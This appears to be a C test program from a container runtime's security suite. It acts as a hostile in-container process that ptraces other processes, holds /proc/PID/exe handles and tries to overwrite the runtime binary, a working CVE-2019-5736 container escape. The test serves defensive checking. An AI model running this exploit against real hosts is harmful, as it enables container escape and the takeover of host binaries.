/* SPDX-License-Identifier: GPL-2.0-or-later */
/* A hostile container process for tests/security (built static into the
 * bundle by the tests):
 *   hostile fds                 list our open fds at the first instruction of
 *                               main (nothing of the runtime may be left)
 *   hostile attach PID          try PTRACE_ATTACH, and /proc/PID/exe (read,
 *                               write, O_PATH); print what worked
 *   hostile watch OUT SECONDS   attack every new process: ptrace it, keep an
 *                               O_PATH fd on its /proc/PID/exe when that is
 *                               agentrun, then try to reopen each for writing
 *                               and overwrite it (CVE-2019-5736); report to OUT
 *   hostile hold OUT SECONDS PID  the same for one process: take an O_PATH fd
 *                               on /proc/PID/exe now, overwrite it later
 * Output lines: ATTACHED pid exe | EXE-OPENED pid exe | OVERWROTE exe |
 * DENIED ... ; "DONE" last. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static FILE *out;
static int held[256];
static char held_name[256][256];
static int n_held;

static double now(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec + ts.tv_nsec / 1e9;
}

static int is_runtime(const char *exe)
{
	return strstr(exe, "agentrun") != NULL;
}

/* 1: done with this pid (not the runtime, or attacked) */
static int attack(pid_t pid)
{
	char path[64], exe[256] = "";
	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	ssize_t n = readlink(path, exe, sizeof(exe) - 1);
	if (n > 0)
		exe[n] = 0;
	/* SEIZE: the same access check as ATTACH, without a SIGSTOP that
	 * could stay pending after the detach */
	if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
		if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) == 0)
			waitpid(pid, NULL, __WALL);
		char e2[256] = "";
		n = readlink(path, e2, sizeof(e2) - 1);
		if (n > 0)
			e2[n] = 0;
		fprintf(out, "ATTACHED %d %s\n", pid, *e2 ? e2 : exe);
		fflush(out);
		ptrace(PTRACE_DETACH, pid, 0, 0);
		if (!*exe)
			snprintf(exe, sizeof(exe), "%s", e2);
	}
	if (!*exe)
		return errno == ENOENT ? 1 : 0; /* gone, or not readable (yet) */
	if (!is_runtime(exe))
		return 1;
	int fd = open(path, O_WRONLY);
	if (fd >= 0) {
		fprintf(out, "EXE-OPENED-WRITE %d %s\n", pid, exe);
		close(fd);
	}
	fd = open(path, O_PATH);
	if (fd >= 0 && n_held < 256) {
		fprintf(out, "EXE-OPENED %d %s\n", pid, exe);
		fflush(out);
		snprintf(held_name[n_held], sizeof(held_name[0]), "%s", exe);
		held[n_held++] = fd;
		return 1;
	}
	if (fd >= 0)
		close(fd);
	return 0;
}

/* The CVE-2019-5736 write: reopen each held exe for writing until the
 * runtime has exited (ETXTBSY until then), and overwrite it. */
static void overwrite(double until)
{
	for (int i = 0; i < n_held; i++) {
		char p[64];
		snprintf(p, sizeof(p), "/proc/self/fd/%d", held[i]);
		int fd = -1;
		/* ETXTBSY while the runtime still runs it; anything else is final */
		while ((fd = open(p, O_WRONLY | O_TRUNC)) < 0 && errno == ETXTBSY && now() < until)
			usleep(5000);
		if (fd < 0) {
			fprintf(out, "DENIED write %s: %s\n", held_name[i], strerror(errno));
			continue;
		}
		if (write(fd, "#!/bin/sh\necho pwned\n", 21) == 21)
			fprintf(out, "OVERWROTE %s\n", held_name[i]);
		else
			fprintf(out, "DENIED write %s: %s\n", held_name[i], strerror(errno));
		close(fd);
	}
}

static void list_fds(void)
{
	DIR *d = opendir("/proc/self/fd");
	if (!d) {
		perror("opendir /proc/self/fd");
		exit(1);
	}
	struct dirent *de;
	while ((de = readdir(d)))
		if (de->d_name[0] != '.' && atoi(de->d_name) != dirfd(d)) {
			char p[300], l[256] = "";
			snprintf(p, sizeof(p), "/proc/self/fd/%s", de->d_name);
			ssize_t n = readlink(p, l, sizeof(l) - 1);
			if (n > 0)
				l[n] = 0;
			printf("fd %s %s\n", de->d_name, l);
		}
	closedir(d);
}

int main(int argc, char **argv)
{
	out = stdout;
	if (argc >= 2 && !strcmp(argv[1], "fds")) {
		list_fds();
		return 0;
	}
	if (argc >= 3 && !strcmp(argv[1], "attach")) {
		pid_t pid = atoi(argv[2]);
		attack(pid);
		char path[64];
		snprintf(path, sizeof(path), "/proc/%d/exe", pid);
		int fd = open(path, O_RDONLY);
		if (fd >= 0)
			fprintf(out, "EXE-READABLE %d\n", pid);
		fprintf(out, "DONE\n");
		return 0;
	}
	if (argc >= 4 && (!strcmp(argv[1], "watch") || !strcmp(argv[1], "hold"))) {
		out = fopen(argv[2], "w");
		if (!out)
			return 1;
		setvbuf(out, NULL, _IOLBF, 0);
		double until = now() + atof(argv[3]);
		if (!strcmp(argv[1], "hold")) {
			attack(atoi(argv[4]));
			fprintf(out, "READY\n");
			overwrite(until);
			fprintf(out, "DONE\n");
			return 0;
		}
		static char seen[1 << 22];
		pid_t self = getpid();
		fprintf(out, "READY\n");
		while (now() < until) {
			DIR *d = opendir("/proc");
			struct dirent *de;
			while (d && (de = readdir(d))) {
				pid_t pid = atoi(de->d_name);
				if (pid <= 1 || pid == self || pid >= (1 << 22) || seen[pid])
					continue;
				seen[pid] = attack(pid);
			}
			if (d)
				closedir(d);
			if (access("/shared/stop", F_OK) == 0)
				break;
		}
		overwrite(now() + 5);
		fprintf(out, "DONE\n");
		return 0;
	}
	fprintf(stderr,
		"usage: hostile fds | attach PID | watch OUT SECONDS | hold OUT SECONDS PID\n");
	return 2;
}
